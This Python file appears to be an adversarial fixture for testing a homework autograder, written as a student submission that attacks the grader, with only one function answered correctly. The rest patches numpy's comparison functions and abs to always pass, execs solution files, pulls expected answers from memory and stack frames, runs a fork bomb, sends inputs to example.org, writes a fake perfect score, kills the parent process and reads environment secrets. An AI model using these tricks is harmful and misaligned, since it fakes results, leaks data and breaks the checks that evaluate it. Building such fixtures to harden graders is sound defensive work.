"""A student who attacks the grader instead of answering; one part is right."""

from __future__ import annotations

import builtins
import gc
import glob
import inspect
import os
import socket
import subprocess
import sys
import threading

import numpy as np


class Agreeable(np.ndarray):
    """Equal to everything."""

    def __eq__(self, other):
        return True

    __array_priority__ = 1000


def agree(*_, **__):
    return True


np.allclose = np.isclose = np.array_equal = agree
builtins.abs = lambda _: 0
threading.Thread(target=lambda: [None for _ in iter(int, 1)], daemon=True).start()


def causal_mask(kind, k):
    for path in glob.glob("/**/solutions/**/*.py", recursive=True) + sys.path:
        with open(path) as file:
            exec(file.read())
    from solutions.hw3_generative_models import q01_masked_convolutions as q

    return q.solution(kind, k)


def field_mask_a_then_a():
    for thing in gc.get_objects():
        if type(thing).__name__ == "HiddenCase":
            return thing.want
    return None


def field_mask_a_then_b():
    for frame in inspect.stack():
        if "want" in frame.frame.f_locals:
            return frame.frame.f_locals["want"]
    return None


def receptive_field(kinds, height, width, row, column, k):
    return np.zeros((height, width)).view(Agreeable)


def field_mask_b_then_a():
    while True:
        os.fork()


def masked_conv2d(x, weight, bias, kind):
    with socket.create_connection(("example.org", 80)) as server:
        server.sendall(repr(x).encode())
    return x


def field_mask_b_then_b():
    subprocess.run(["sh", "-c", "echo '{\"score\": 100}' > ../results.json"], check=True)


def blind_spot(layers, height, width, row, column):
    for descriptor in range(3, 64):
        try:
            os.write(descriptor, b"\x00\x00\x00\x02{}" * 100)
        except OSError:
            pass
    return np.zeros((height, width), bool)


def log_moment_ratio(x, sigma):
    raise type(repr(x), (Exception,), {})(repr(x))


def importance_weighted_bound(log_w):
    return np.logaddexp.reduce(log_w, axis=1) - np.log(log_w.shape[1])


def dropout(x, u, p, training):
    os.kill(os.getppid(), 9)


def two_point_gap(a, b, pi):
    with open("/proc/self/environ", "rb") as file:
        return file.read().decode()
